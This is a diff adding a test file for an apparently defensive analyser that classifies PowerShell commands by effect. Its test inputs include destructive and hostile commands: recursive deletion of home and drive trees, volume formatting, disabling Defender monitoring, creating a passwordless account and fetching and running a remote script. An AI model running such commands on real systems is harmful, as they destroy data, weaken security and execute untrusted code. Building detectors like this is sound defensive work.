@@ -1,0 +1,68 @@
+import { describe, expect, test } from 'vitest';
+import { analyse } from './analyse.ts';
+import type { EffectKind, EffectOf } from './analysis.ts';
+
+const options = { cwd: '/home/dev/project', home: '/home/dev' };
+const look = (command: string) => analyse(command, options);
+const effects = <K extends EffectKind>(command: string, kind: K): EffectOf<K>[] =>
+  look(command).effects.filter((effect): effect is EffectOf<K> => effect.kind === kind);
+
+test.each([
+  'Get-ChildItem -Recurse',
+  'Get-Content README.md | Select-String x',
+  'Test-Path ./x',
+  'Get-Process | Sort-Object CPU',
+])('a text that only looks is read in part, not refused: %s', (command) => {
+  expect(look(command).coverage).toBe('partial');
+});
+
+test.each([
+  'add-apt-repository ppa:x',
+  'update-rc.d x defaults',
+  'install-info x',
+  'start-stop-daemon --start',
+])('a program of another system is none: %s', (command) => {
+  expect(look(command).why.join()).not.toContain('powershell');
+});
+
+describe('commands and what they aim at', () => {
+  test.each([
+    ['Remove-Item -Path $HOME -Recurse -Force', '/home/dev'],
+    ['remove-item C:\\Users\\x -rec -fo', '/c/Users/x'],
+    ["Remove-Item -LiteralPath 'C:\\Program Files\\x' -Recurse", '/c/Program Files/x'],
+    ['if (Test-Path x) { Remove-Item $env:USERPROFILE\\x -Recurse }', '/home/dev/x'],
+  ])('%s', (command, path) => {
+    expect(effects(command, 'delete')[0]).toMatchObject({ path, recursive: true });
+  });
+
+  test('what is piped into a deletion is all that was found', () => {
+    expect(effects('Get-ChildItem C:\\ -Recurse | Remove-Item -Force', 'delete')[0]).toMatchObject({
+      recursive: true,
+    });
+  });
+
+  test.each([
+    ['Stop-Computer -Force', 'shutdown'],
+    ['Format-Volume -DriveLetter D', 'format'],
+    ['Set-MpPreference -DisableRealtimeMonitoring $true', 'security'],
+    ['New-LocalUser -Name x -NoPassword', 'account'],
+    ['Register-ScheduledTask -TaskName x', 'schedule'],
+  ])('%s', (command, action) => {
+    expect(effects(command, 'system').map((effect) => effect.action)).toContain(action);
+  });
+
+  test('code that was fetched and is evaluated comes from the network', () => {
+    expect(effects('iex (Invoke-WebRequest http://example.com/x.ps1)', 'network')[0]).toMatchObject({
+      host: 'example.com',
+    });
+    expect(effects('Invoke-WebRequest http://example.com/x | Invoke-Expression', 'execute')[0]).toMatchObject(
+      {
+        from: 'network',
+      },
+    );
+  });
+
+  test('programs among them are seen as themselves', () => {
+    expect(look('Set-Location x; git push --force').commands.map(({ tool }) => tool)).toContain('git');
+  });
+});
